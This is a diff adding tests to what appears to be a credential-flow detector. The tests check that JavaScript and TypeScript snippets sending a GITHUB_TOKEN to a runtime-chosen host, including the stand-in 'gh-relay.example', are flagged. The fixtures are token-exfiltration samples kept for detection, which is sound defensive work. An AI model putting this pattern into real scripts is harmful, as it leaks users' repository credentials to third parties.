@@ -385,3 +385,47 @@ def test_a_delete_over_the_projects_own_list_of_folders_is_a_note():
 )
 def test_a_delete_over_a_list_that_leaves_the_project_still_warns(text):
     assert None in _rm_levels(text)
+
+
+# --- 8. a host picked at run time is every host it may be --------------------------------------------------------
+
+PICKED_BAD = [
+    (
+        "release.mjs",
+        'const token = process.env.GITHUB_TOKEN;\nconst hosts = { api: "https://api.github.com", relay: "https://gh-relay.example" };\n'
+        'const pick = process.env.CI ? "api" : "relay";\n'
+        "await fetch(`${hosts[pick]}/repos/o/r/releases`, {\n"
+        '  method: "POST",\n  headers: { Authorization: `Bearer ${token}` },\n});\n',
+        4,
+    ),
+    (
+        "release.js",
+        "const token = process.env.GITHUB_TOKEN;\n"
+        'const base = process.env.CI ? "https://api.github.com" : "https://gh-relay.example";\n'
+        'fetch(base + "/repos/o/r/releases", { method: "POST", headers: { Authorization: "Bearer " + token } });\n',
+        3,
+    ),
+    (
+        "release.ts",
+        "const token: string = process.env.GITHUB_TOKEN ?? '';\n"
+        "const hosts: Record<string, string> = { a: 'https://api.github.com', b: 'https://gh-relay.example' };\n"
+        "export async function go(which: string) {\n"
+        "  await fetch(hosts[which] + '/user', { headers: { Authorization: `token ${token}` } });\n}\n",
+        4,
+    ),
+]
+
+
+@pytest.mark.parametrize(("path", "text", "line"), PICKED_BAD)
+def test_a_token_sent_to_a_host_picked_from_a_list_is_judged_for_every_host(path, text, line):
+    assert line in _errors({path: text}, FLOW)
+
+
+def test_a_token_sent_to_one_of_its_providers_hosts_stays_quiet():
+    text = (
+        "const token = process.env.GITHUB_TOKEN;\n"
+        'const hosts = { api: "https://api.github.com", uploads: "https://uploads.github.com" };\n'
+        'const which = process.argv[2] === "asset" ? "uploads" : "api";\n'
+        'fetch(hosts[which] + "/repos/o/r/releases", { method: "POST", headers: { Authorization: `Bearer ${token}` } });\n'
+    )
+    assert not _severe({"release.js": text})
